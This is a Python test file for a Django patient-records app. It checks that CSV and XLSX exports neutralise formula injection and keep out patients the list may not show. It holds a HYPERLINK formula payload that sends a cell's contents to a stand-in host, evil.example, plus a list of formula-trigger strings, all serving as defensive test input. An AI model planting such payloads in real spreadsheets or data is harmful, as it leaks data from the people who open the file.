"""List files (CSV, XLSX): what the list shows, formulas neutralised, empty lists valid."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from alongside.core.spreadsheet import spreadsheet_safe
from alongside.reports.exports import csv_bytes, xlsx_bytes
from tests.patients.factories import PatientFactory
from tests.personas import World

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_formula_in_a_patients_note_exports_as_text(world: World) -> None:
    PatientFactory(
        service=world.home, status="ineligible", decline_reason=FORMULA, family_name="Formula"
    )
    client = world.client_for("therapist")
    url = reverse("patients:list")
    as_csv = client.get(url, {"format": "csv"})
    assert as_csv.status_code == 200
    header, *rows = _csv_rows(as_csv.content)
    cell = rows[0][header.index("Decline reason")]
    assert cell == "'" + FORMULA  # quoted: a spreadsheet shows it as text
    as_xlsx = client.get(url, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    header_row = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header_row.index("Decline reason") + 1)
    assert cell.data_type == "s"  # a string cell, never a formula cell
    assert cell.value == FORMULA
    raw = io.BytesIO(as_xlsx.content)
    import zipfile

    assert b"<f>" not in zipfile.ZipFile(raw).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "|cmd"])
def test_every_formula_trigger_is_neutralised(value: str) -> None:
    assert spreadsheet_safe(value).startswith("'")
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a"], [[value]]))).active
    assert sheet.cell(row=2, column=1).data_type == "s"


def test_numbers_stay_numbers() -> None:
    assert spreadsheet_safe(-3) == "-3"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a"], [[-3]]))).active
    assert sheet.cell(row=2, column=1).value == -3


def test_an_empty_selection_is_a_valid_file_with_headers(world: World) -> None:
    client = world.client_for("therapist")
    response = client.get(reverse("patients:list"), {"format": "csv", "q": "nobody-at-all"})
    assert response.status_code == 200
    rows = _csv_rows(response.content)
    assert rows[0][0] == "Patient" and len(rows) == 1
    response = client.get(reverse("patients:list"), {"format": "xlsx", "q": "nobody-at-all"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 1
    assert _csv_rows(csv_bytes(["x"], [])) == [["x"]]


def test_the_file_holds_only_what_the_list_may_show(world: World) -> None:
    PatientFactory(service=world.other, family_name="Elsewhere")
    response = world.client_for("therapist").get(reverse("patients:list"), {"format": "csv"})
    assert "Elsewhere" not in response.content.decode("utf-8-sig")


def test_fidelity_table_files(world: World) -> None:
    from tests.reports.factories import populate

    populate(world.home, patients=12)
    client = world.client_for("analyst")
    response = client.get(reverse("reports:fidelity", args=[world.home.slug]), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=1, column=1).value == "Pseudonymous id"
    assert str(sheet.cell(row=2, column=1).value).startswith("P")
